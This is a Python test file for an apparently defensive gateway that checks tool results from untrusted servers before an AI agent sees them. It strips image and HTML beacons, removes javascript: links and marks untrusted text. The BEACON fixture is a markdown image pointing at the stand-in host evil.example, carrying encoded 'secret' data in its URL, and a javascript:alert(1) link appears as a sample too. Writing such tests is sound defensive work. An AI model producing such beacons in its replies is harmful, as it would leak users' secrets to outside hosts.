"""D4, D12: what strangers said goes on as data, without what acts when shown; trusted servers speak as they do."""

from __future__ import annotations

from types import MappingProxyType
from typing import Any

from limen.core.call import Approved, Call, Era, Inspected
from limen.core.verdict import _SEAL, Pass, Permit, Replace
from limen.detection.neutralise import Neutralise
from limen.detection.settings import ContentSettings
from limen.detection.spotlight import unspotlight

BEACON = "See ![chart](https://evil.example/p.png?d=c2VjcmV0IHNlY3JldCBzZWNyZXQ) and <img src=//evil.example/x>"
SIGNED = "Download: https://files.example/report.pdf?X-Signature=c2VjcmV0IHNlY3JldCBzZWNyZXQgc2VjcmV0"


def permit(server: str = "stranger", name: str = "read") -> Permit:
    call = Call(method="tools/call", server=server, route=server, era=Era.MODERN, revision="2026-07-28", name=name)
    return Permit(_SEAL, call, MappingProxyType({Approved: Approved(server, "tool", name, "d", b"{}")}), "ref-1")


def said(text: str) -> dict[str, Any]:
    return {"content": [{"type": "text", "text": text}]}


def shown(settings: dict[str, Any], result: dict[str, Any], **where: str) -> tuple[Any, dict[str, Inspected]]:
    seen: dict[str, Inspected] = {}
    verdict = Neutralise(ContentSettings.model_validate(settings), seen).check_result(permit(**where), result)
    return verdict, seen


def test_a_stranger_is_marked_by_default_and_a_trusted_server_goes_as_it_is() -> None:
    verdict, seen = shown({}, said("ordinary words"))
    assert isinstance(verdict, Replace) and not verdict.detail and not seen
    text = verdict.result["content"][0]["text"]
    assert unspotlight(text, "delimit", text.split()[1]) == "ordinary words"
    trusted = {"servers": {"stranger": {"trusted": True}}}
    assert isinstance(shown(trusted, said(BEACON))[0], Pass)


def test_pictures_of_a_stranger_are_taken_out_and_recorded() -> None:
    verdict, seen = shown({"spotlight": "off"}, said(BEACON))
    assert isinstance(verdict, Replace) and "evil.example" in verdict.detail
    assert "![" not in verdict.result["content"][0]["text"] and "<img" not in verdict.result["content"][0]["text"]
    assert "exfiltration.beacon" in seen["ref-1"].findings
    own = {"spotlight": "off", "hosts": ["evil.example"]}
    assert isinstance(shown(own, said("![chart](https://evil.example/p.png)"))[0], Pass)


def test_a_link_somebody_has_to_follow_stays_unless_links_are_wanted_out() -> None:
    assert isinstance(shown({"spotlight": "off"}, said(SIGNED))[0], Pass)
    strict, _ = shown({"spotlight": "off", "defuse": "links"}, said(SIGNED))
    assert isinstance(strict, Replace) and "X-Signature" not in strict.result["content"][0]["text"]
    running, _ = shown({"spotlight": "off"}, said("[go](javascript:alert(1))"))
    assert isinstance(running, Replace) and "javascript" not in running.result["content"][0]["text"]


def test_every_place_of_a_text_is_reached_and_nothing_else_is_touched() -> None:
    result = {
        "content": [
            {"type": "resource", "resource": {"uri": "x://y", "text": BEACON}},
            {"type": "image", "data": "AAAA", "mimeType": "image/png"},
            {"type": "text", "text": "fine"},
        ],
        "structuredContent": {"text": BEACON},
        "isError": True,
    }
    verdict, _ = shown({"spotlight": "off"}, result)
    assert isinstance(verdict, Replace)
    assert "![" not in verdict.result["content"][0]["resource"]["text"]
    assert verdict.result["content"][1:] == result["content"][1:]
    assert verdict.result["structuredContent"] == {"text": BEACON} and verdict.result["isError"] is True
    prompt = {"messages": [{"role": "user", "content": {"type": "text", "text": BEACON}}]}
    verdict, _ = shown({}, prompt)
    assert isinstance(verdict, Replace) and "![" not in verdict.result["messages"][0]["content"]["text"]


def test_what_asks_for_input_is_a_question_and_no_data() -> None:
    asking = {"resultType": "input_required", "inputRequests": {}, "content": []}
    assert isinstance(shown({}, asking)[0], Pass)


def test_the_narrowest_setting_counts() -> None:
    settings = {"servers": {"stranger": {"spotlight": "datamark", "tools": {"raw": {"spotlight": "off"}}}}}
    marked, _ = shown(settings, said("two words"))
    assert isinstance(marked, Replace) and "every word" in marked.result["content"][0]["text"]
    assert isinstance(shown(settings, said("two words"), name="raw")[0], Pass)
    assert ContentSettings.model_validate(settings).marks("stranger")
    assert not ContentSettings.model_validate({"servers": {"ours": {"trusted": True}}}).marks("ours")
